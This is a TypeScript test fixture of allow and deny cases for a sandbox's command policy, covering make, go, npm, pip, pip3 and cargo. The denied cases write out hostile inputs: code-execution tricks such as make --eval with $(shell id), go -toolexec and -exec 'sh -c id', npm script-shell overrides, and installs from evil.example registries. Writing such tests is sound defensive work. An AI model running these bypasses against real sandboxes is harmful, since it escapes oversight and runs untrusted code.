// Golden cases for build tools and package managers: make (targets only), go,
// npm (project scripts, no install/exec/config), pip and pip3 (inspection only),
// cargo. Allowlisting a runner allows the project's own code to run (bounded by
// the sandbox); the arguments must not name other code or other places.
import { ARGUMENT, no, ok, OUTSIDE, type GoldenGroup } from './golden-case.js';

const MAKE_TARGETS = 'make takes targets only';
const INSTALL = 'installing runs package scripts and fetches code';

export const BUILDERS: readonly GoldenGroup[] = [
  {
    program: 'make',
    cases: [
      ok('make'),
      ok('make test'),
      ok('make -n build'),
      ok('make -j4 test'),
      ok('make -k test'),
      ok('make -s build'),
      no(ARGUMENT, 'make CC=sh build', `${MAKE_TARGETS}: CC=sh runs sh as the compiler`),
      no(ARGUMENT, 'make test X=1', `${MAKE_TARGETS}: an assignment after a target (GNU permutation)`),
      no(ARGUMENT, 'make -f {O}/Makefile', '-f reads another makefile'),
      no(ARGUMENT, 'make -f Makefile test', '-f is denied whatever the file'),
      no(ARGUMENT, 'make --file=Makefile', '--file is denied'),
      no(ARGUMENT, 'make -C sub', '-C runs the makefile of another directory'),
      no(ARGUMENT, 'make --directory={O}', '--directory runs the makefile of another directory'),
      no(ARGUMENT, 'make -I {O} test', '-I includes makefiles from elsewhere'),
      no(ARGUMENT, "make --eval='x:=$(shell id)' nothing", '--eval evaluates makefile text'),
      no(ARGUMENT, "make --eval 'x:=$(shell id)' nothing", '--eval with a separate value'),
      no(ARGUMENT, "make -E 'x:=$(shell id)' nothing", '-E is --eval'),
      no(ARGUMENT, "make --ev='x:=$(shell id)' nothing", 'an abbreviated long option (--eval)'),
    ],
  },
  {
    program: 'go',
    cases: [
      ok('go build ./...'),
      ok('go test ./...'),
      ok('go vet ./...'),
      ok('go fmt ./...'),
      ok('go version'),
      ok('go env GOPATH'),
      no(ARGUMENT, "go test -exec 'sh -c id' ./...", '-exec runs the test binary through a program'),
      no(ARGUMENT, 'go build -toolexec=id .', '-toolexec runs every tool through a program'),
      no(ARGUMENT, 'go build -toolexec id .', '-toolexec with a separate value'),
      no(ARGUMENT, 'go vet -vettool=./script.sh .', '-vettool runs a program'),
      no(ARGUMENT, 'go generate ./...', 'runs the commands in //go:generate comments'),
      no(ARGUMENT, 'go env -w GOFLAGS=-toolexec=id', 'writes go configuration (GOFLAGS)'),
      no(OUTSIDE, 'go build -o {O}/bin .', '-o writes outside'),
    ],
  },
  {
    program: 'npm',
    cases: [
      ok('npm test'),
      ok('npm run build'),
      ok('npm run lint'),
      ok('npm start'),
      ok('npm run build -- --script-shell=sh'), // after --, arguments of the script
      no(ARGUMENT, 'npm exec cowsay', 'runs a package binary, fetching it if needed'),
      no(ARGUMENT, 'npm x cowsay', 'npm x is npm exec'),
      no(ARGUMENT, 'npm exec -c id', 'runs a shell command'),
      // Installing runs package scripts: confined only, the registry fetched through net.allow's proxy (issue 24).
      ok('npm install'),
      no(ARGUMENT, 'npm i left-pad', 'the alias i is not listed: write install'),
      no(ARGUMENT, 'npm install https://example.com/x.tgz', INSTALL),
      ok('npm ci'),
      no('ZB_POLICY_NET_DENIED', 'npm install --registry https://evil.example/ left-pad', 'a registry not in net.allow'),
      no(ARGUMENT, 'npm rebuild', 'runs install scripts'),
      no(ARGUMENT, 'npm publish', 'publishes the package'),
      no(ARGUMENT, 'npm config set script-shell {O}/sh', 'writes configuration naming the script shell'),
      no(ARGUMENT, 'npm run build --script-shell=sh', 'an npm option naming the program scripts run with'),
      no(ARGUMENT, 'npm test --script-shell sh', 'an npm option naming the script shell (separate value)'),
      no(ARGUMENT, 'npm run build --userconfig={O}/npmrc', 'reads configuration from elsewhere'),
    ],
  },
  {
    program: 'pip',
    cases: [
      ok('pip list'),
      ok('pip show pip'),
      ok('pip freeze'),
      ok('pip --version'),
      ok('pip check'),
      no(ARGUMENT, 'pip install requests', INSTALL),
      no(ARGUMENT, 'pip install -r requirements.txt', INSTALL),
      no(ARGUMENT, 'pip install --index-url http://evil.example/simple x', 'an index of its choosing'),
      no(ARGUMENT, 'pip install ./pkg', 'installing a path runs its setup code'),
      no(ARGUMENT, "pip install 'git+https://example.com/x.git'", 'installing a URL runs its setup code'),
      no(ARGUMENT, 'pip download x', 'fetches and may build packages'),
      no(ARGUMENT, 'pip wheel .', 'builds the project, running its setup code'),
      no(ARGUMENT, 'pip config set global.index-url http://evil.example', 'writes configuration'),
    ],
  },
  {
    program: 'pip3',
    cases: [
      ok('pip3 list'),
      ok('pip3 show pip'),
      ok('pip3 freeze'),
      no(ARGUMENT, 'pip3 install --user x', INSTALL),
      no(ARGUMENT, 'pip3 install -e .', INSTALL),
      no(ARGUMENT, 'pip3 uninstall -y pip', 'removes installed packages'),
    ],
  },
  {
    program: 'cargo',
    cases: [ok('cargo test'), ok('cargo build')],
  },
];
